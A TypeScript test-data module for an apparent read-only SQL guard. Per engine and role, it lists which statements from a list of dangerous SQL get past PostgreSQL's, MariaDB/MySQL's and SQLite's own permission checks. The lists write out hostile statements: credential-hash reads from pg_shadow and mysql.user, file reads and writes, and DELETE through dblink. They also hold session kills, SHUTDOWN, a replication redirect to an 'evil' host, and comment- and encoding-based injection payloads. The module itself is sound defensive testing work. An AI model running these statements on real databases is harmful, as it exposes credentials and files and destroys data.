/**
 * What the engine's wall alone lets through of the classified list (spec §7), measured on
 * PostgreSQL 15 and MariaDB 10.11. A server of another version may let through less, never more.
 * `changes`: something differs afterwards. `runs`: it is answered; its effect ended with its
 * session, or it revealed what nobody may know. SQLite's wall lets none of its 53 through.
 */

export interface Gaps {
  readonly runs: readonly string[];
  readonly changes: readonly string[];
}

export const postgresGaps: Readonly<Record<string, Gaps>> = {
  superuser: {
    runs: [
      'SELECT * FROM pg_shadow',
      'SELECT rolpassword FROM pg_authid',
      "SELECT dblink_connect('c','host=127.0.0.1 port=55432 dbname=adv user=advowner')",
      "SELECT pg_read_binary_file('/etc/hostname')",
      "SELECT query_to_xml('SELECT pg_read_file(''/etc/hostname'')',true,false,'')",
      "SELECT * FROM pg_read_file('/etc/hostname')",
      "SELECT set_config('statement_timeout','0',false)",
      "SELECT pg_ls_dir('/etc')",
      "SELECT pg_read_file('/etc/hostname')",
      'PREPARE p AS DELETE FROM u',
      'SET ROLE postgres',
      "SELECT pg_file_unlink('/srv/out/pg/out_adm')",
      'SET default_transaction_read_only = off',
      'SET statement_timeout = 0',
      'SELECT U&"pg\\005fread_file"(\'/etc/hostname\')',
      'SELECT pg_rotate_logfile()',
      'LISTEN ch',
      'SELECT pg_catalog."pg_read_file"(\'/etc/hostname\')',
      'RESET SESSION AUTHORIZATION',
      "SELECT database_to_xml(true,false,'')",
      'CLUSTER t USING t_pkey',
      "SELECT lo_put(4242, 0, 'HACK')",
      "SELECT pg_logical_emit_message(false,'a','b')",
      "SELECT lo_from_bytea(0, 'x')",
      'SELECT lo_create(0)',
      'LOCK TABLE t IN ACCESS EXCLUSIVE MODE',
      'SELECT pg_try_advisory_lock(43)',
      "SELECT pg_notify('ch','x')",
      "SELECT pg_import_system_collations('public')",
    ],
    changes: [
      "SELECT * FROM dblink('host=127.0.0.1 port=55432 dbname=adv user=advowner','DELETE FROM u RETURNING id') AS x(id int)",
      "SELECT pg_file_write('/srv/out/pg/out_adm','x',false)",
      "SELECT dblink_exec('host=127.0.0.1 port=55432 dbname=adv user=advowner','DELETE FROM u')",
      "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND application_name='victim'",
      "SELECT lo_export(4242, '/srv/out/pg/out_lo')",
      'SELECT pg_reload_conf()',
      "COPY t TO '/srv/out/pg/out_copy.csv'",
      'ANALYZE t',
      'SELECT f_claims_stable()',
      'REINDEX TABLE t',
      "SELECT pg_create_physical_replication_slot('advslot')",
    ],
  },
  owner: {
    runs: [
      "SELECT set_config('statement_timeout','0',false)",
      'PREPARE p AS DELETE FROM u',
      'SET default_transaction_read_only = off',
      'SET statement_timeout = 0',
      'LISTEN ch',
      'RESET SESSION AUTHORIZATION',
      "SELECT database_to_xml(true,false,'')",
      'CLUSTER t USING t_pkey',
      "SELECT lo_put(4242, 0, 'HACK')",
      "SELECT pg_logical_emit_message(false,'a','b')",
      "SELECT lo_from_bytea(0, 'x')",
      'SELECT lo_create(0)',
      'LOCK TABLE t IN ACCESS EXCLUSIVE MODE',
      'SELECT pg_try_advisory_lock(43)',
      "SELECT pg_notify('ch','x')",
    ],
    changes: ['ANALYZE t', 'REINDEX TABLE t'],
  },
};

/**
 * A superuser's read session as `pg_read_all_data`: nothing changes. ANALYZE skips tables of other
 * roles.
 */
export const postgresReaderRuns: readonly string[] = [
  'SELECT * FROM pg_shadow',
  'SELECT rolpassword FROM pg_authid',
  "SELECT set_config('statement_timeout','0',false)",
  'PREPARE p AS DELETE FROM u',
  'SET ROLE postgres',
  'SET default_transaction_read_only = off',
  'SET statement_timeout = 0',
  'LISTEN ch',
  'RESET SESSION AUTHORIZATION',
  "SELECT database_to_xml(true,false,'')",
  'ANALYZE t',
  "SELECT pg_logical_emit_message(false,'a','b')",
  "SELECT lo_from_bytea(0, 'x')",
  'SELECT lo_create(0)',
  'SELECT pg_try_advisory_lock(43)',
  "SELECT pg_notify('ch','x')",
];

export const mariadbGaps: Readonly<Record<string, Gaps>> = {
  'all privileges': {
    runs: [
      'CACHE INDEX my_isam IN default',
      "SELECT LOAD_FILE/**/('/etc/hostname')",
      'PURGE BINARY LOGS BEFORE NOW()',
      'USE mysql',
      'SELECT user, authentication_string FROM mysql.user',
      'DO SLEEP(0.01)',
      "SELECT '¿\\'; DELETE FROM u; -- '",
      "SELECT /*!50000 LOAD_FILE*/('/etc/hostname')",
      'HANDLER t OPEN',
      "SHOW GRANTS FOR 'root'@'localhost'",
      '/*!99999 DELETE FROM u */ SELECT 1',
      'SELECT 1 /*! INTO @x */',
      'SELECT 1 INTO @x',
      "SELECT GET_LOCK('x',0)",
    ],
    changes: [
      "CHANGE MASTER TO MASTER_HOST='evil'",
      "SELECT 'x' /*!50000 INTO OUTFILE '/srv/out/my/out_d' */",
      'SHUTDOWN',
    ],
  },
};

const { runs: mariadbRuns = [], changes: mariadbChanges = [] } = mariadbGaps['all privileges'] ?? {};
/** MariaDB doesn't accept the additional one as a statement. */
export const mysqlGaps: Readonly<Record<string, Gaps>> = {
  ...mariadbGaps,
  'all privileges': {
    runs: mariadbRuns,
    changes: [...mariadbChanges, "(SELECT 'x' INTO OUTFILE '/srv/out/my/out_f')"],
  },
};

/**
 * SQLite with the authorizer off: what the read handle alone answers. All its effects end with the
 * handle.
 */
export const sqliteHandleRuns: readonly string[] = [
  'PRAGMA wal_checkpoint(TRUNCATE)',
  'PRAGMA max_page_count = 1',
  'PRAGMA journal_mode(DELETE)',
  'PRAGMA locking_mode = EXCLUSIVE',
  'PRAGMA foreign_keys = OFF',
  'PRAGMA synchronous = OFF',
  'PRAGMA journal_mode = OFF',
  'PRAGMA hard_heap_limit = 1',
  'SAVEPOINT x',
  "PRAGMA key = 'x'",
  'PRAGMA/**/query_only/**/=/**/0',
  'PRAGMA writable_schema(1)',
  'PRAGMA trusted_schema = ON',
  'PRAGMA writable_schema = ON',
  'PRAGMA case_sensitive_like = 1',
  "PRAGMA temp_store_directory = '/etc'",
];

/**
 * A fitting role: its read session, and a session that may write, which a hidden function would
 * have to reach.
 */
export const roleGaps: Readonly<Record<'postgres' | 'mysql', Readonly<Record<'read' | 'alone', Gaps>>>> = {
  postgres: {
    read: {
      runs: [
        "SELECT set_config('statement_timeout','0',false)",
        'PREPARE p AS DELETE FROM u',
        'SET default_transaction_read_only = off',
        'SET statement_timeout = 0',
        'LISTEN ch',
        'RESET SESSION AUTHORIZATION',
        "SELECT database_to_xml(true,false,'')",
        'ANALYZE t',
        "SELECT pg_logical_emit_message(false,'a','b')",
        "SELECT lo_from_bytea(0, 'x')",
        'SELECT lo_create(0)',
        'SELECT pg_try_advisory_lock(43)',
        "SELECT pg_notify('ch','x')",
      ],
      changes: [],
    },
    // GRANT gives nothing and VACUUM skips the table, both with a warning.
    alone: {
      runs: [
        "SELECT set_config('statement_timeout','0',false)",
        'PREPARE p AS DELETE FROM u',
        'SET default_transaction_read_only = off',
        'SET statement_timeout = 0',
        'LISTEN ch',
        'RESET SESSION AUTHORIZATION',
        "SELECT database_to_xml(true,false,'')",
        'ANALYZE t',
        "SELECT pg_logical_emit_message(false,'a','b')",
        'SELECT pg_try_advisory_lock(43)',
        'GRANT ALL ON t TO PUBLIC',
        'BEGIN READ WRITE',
        'VACUUM t',
      ],
      changes: [
        'CREATE TEMP TABLE tmpt(id int)',
        "SELECT lo_from_bytea(0, 'x')",
        'SELECT lo_create(0)',
        "SELECT pg_notify('ch','x')",
      ],
    },
  },
  mysql: {
    read: {
      runs: [
        'CACHE INDEX my_isam IN default',
        'DO SLEEP(0.01)',
        'HANDLER t OPEN',
        'SELECT 1 /*! INTO @x */',
        'SELECT 1 INTO @x',
        "SELECT GET_LOCK('x',0)",
        "SELECT '¿\\'; DELETE FROM u; -- '",
        '/*!99999 DELETE FROM u */ SELECT 1',
      ],
      changes: [],
    },
    alone: {
      runs: [
        'CACHE INDEX my_isam IN default',
        'DO SLEEP(0.01)',
        'HANDLER t OPEN',
        'SELECT 1 /*! INTO @x */',
        'SELECT 1 INTO @x',
        "SELECT GET_LOCK('x',0)",
        'START TRANSACTION READ WRITE',
        'ROLLBACK',
        'SET TRANSACTION READ WRITE',
        'BEGIN',
        "SELECT '¿\\'; DELETE FROM u; -- '",
        '/*!99999 DELETE FROM u */ SELECT 1',
      ],
      changes: [],
    },
  },
};
